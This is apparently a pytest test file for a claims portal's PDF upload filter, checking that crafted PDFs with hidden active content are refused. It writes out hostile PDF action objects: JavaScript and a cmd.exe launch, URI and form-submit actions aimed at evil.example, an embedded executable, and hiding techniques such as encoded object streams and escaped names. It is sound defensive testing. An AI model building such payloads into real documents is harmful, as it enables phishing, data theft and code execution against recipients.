"""Proof PDFs are judged by a PDF parser, wherever and however an action is hidden, then rewritten.

Each crafted file is a valid one-page PDF a viewer would open. The hiding places are those an
attacker uses against a byte scanner: an object stream under /ASCIIHexDecode or /ASCII85Decode
(the old filter only inflated Flate streams), filters chained, names with #xx escapes, an action
reached through /Next, or a link annotation's /URI and /SubmitForm (the old filter let both through).
"""

import io

import pytest
from pypdf import PdfReader

from portal.claims.pdf_check import PdfRefused, check_pdf
from portal.claims.uploads import UploadRejected, check_upload
from tests.claims.pdfs import build_pdf

JAVASCRIPT = b"<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>"
LAUNCH = b"<< /Type /Action /S /Launch /F (cmd.exe) >>"
URI = b"<< /Type /Action /S /URI /URI (https://evil.example/steal) >>"
SUBMIT = b"<< /Type /Action /S /SubmitForm /F (https://evil.example/form) >>"
HIDING_FILTERS = [("ASCIIHexDecode",), ("ASCII85Decode",), ("FlateDecode",), ("ASCIIHexDecode", "FlateDecode")]


def refused_reason(data: bytes) -> str:
    with pytest.raises(PdfRefused) as caught:
        check_pdf(data)
    return caught.value.reason


def open_action(action: bytes, **layout) -> bytes:
    return build_pdf(catalog_extra=b"/OpenAction 5 0 R ", extra_objects={5: action}, **layout)


def link(action: bytes, **layout) -> bytes:
    """A page whose link annotation runs ``action`` when clicked."""
    annotation = b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A 6 0 R >>"
    return build_pdf(page_extra=b"/Annots [5 0 R] ", extra_objects={5: annotation, 6: action}, **layout)


def test_a_plain_pdf_is_accepted_and_stored_as_the_parser_rewrote_it(request_ctx):
    original = build_pdf(content=b"0 0 m 100 100 l S\n% receipt 4410")
    stored = check_upload(original).data
    assert stored.startswith(b"%PDF-") and b"receipt 4410" in stored
    assert len(PdfReader(io.BytesIO(stored)).pages) == 1


def test_bytes_after_the_end_of_the_file_are_not_stored(request_ctx):
    stored = check_pdf(build_pdf(tail=b"\nAPPENDED-PAYLOAD"))
    assert b"APPENDED-PAYLOAD" not in stored


@pytest.mark.parametrize("filters", HIDING_FILTERS, ids="+".join)
@pytest.mark.parametrize(("name", "action"), [("javascript", JAVASCRIPT), ("launch", LAUNCH)])
def test_an_open_action_hidden_in_an_encoded_object_stream_is_found(request_ctx, filters, name, action):
    assert refused_reason(open_action(action, compress=(1, 5), filters=filters)) == "active"


@pytest.mark.parametrize("filters", HIDING_FILTERS, ids="+".join)
def test_a_catalog_in_an_encoded_object_stream_pointing_at_plain_javascript_is_found(request_ctx, filters):
    assert refused_reason(open_action(JAVASCRIPT, compress=(1,), filters=filters)) == "active"


@pytest.mark.parametrize(("name", "action"), [("uri", URI), ("submit_form", SUBMIT), ("javascript", JAVASCRIPT)])
def test_a_link_that_opens_a_site_submits_a_form_or_runs_script_is_refused(request_ctx, name, action):
    assert refused_reason(link(action)) == "active"
    assert refused_reason(link(action, compress=(5, 6), filters=("ASCII85Decode",))) == "active"


def test_names_written_with_escapes_are_read_as_the_viewer_reads_them(request_ctx):
    assert refused_reason(open_action(b"<< /Type /Action /S /J#61vaScript /J#53 (app.alert(1)) >>")) == "active"


def test_an_action_chained_behind_a_harmless_one_is_found(request_ctx):
    go_to = b"<< /Type /Action /S /GoTo /D [3 0 R /Fit] /Next 6 0 R >>"
    data = build_pdf(catalog_extra=b"/OpenAction 5 0 R ", extra_objects={5: go_to, 6: LAUNCH})
    assert refused_reason(data) == "active"


def test_automatic_actions_on_a_page_are_refused(request_ctx):
    data = build_pdf(page_extra=b"/AA << /O 5 0 R >> ", extra_objects={5: JAVASCRIPT})
    assert refused_reason(data) == "active"


def test_javascript_in_the_name_tree_and_embedded_files_are_refused(request_ctx):
    names = b"/Names << /JavaScript << /Names [(a) 5 0 R] >> >> "
    assert refused_reason(build_pdf(catalog_extra=names, extra_objects={5: JAVASCRIPT})) == "active"
    embedded = b"/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >> "
    spec = b"<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>"
    payload = b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream"
    assert refused_reason(build_pdf(catalog_extra=embedded, extra_objects={5: spec, 6: payload})) == "active"


def test_opening_at_a_page_is_not_an_action_and_is_accepted(request_ctx):
    assert check_pdf(build_pdf(catalog_extra=b"/OpenAction [3 0 R /Fit] "))
    assert check_pdf(open_action(b"<< /Type /Action /S /GoTo /D [3 0 R /Fit] >>"))


def test_encrypted_and_damaged_pdfs_are_refused_with_their_own_reason(request_ctx):
    encrypted = build_pdf(trailer_extra=b"/Encrypt << /Filter /Standard /V 1 /R 2 /O (x) /U (y) /P -4 >> /ID [(a)(a)] ")
    assert refused_reason(encrypted) == "encrypted"
    assert refused_reason(b"%PDF-1.4\n1 0 obj\n<< >>\nendobj\n" + b"x" * 2000) == "damaged"
    with pytest.raises(UploadRejected) as caught:
        check_upload(open_action(URI))
    assert "contains links, scripts, actions or attached files" in str(caught.value.message)
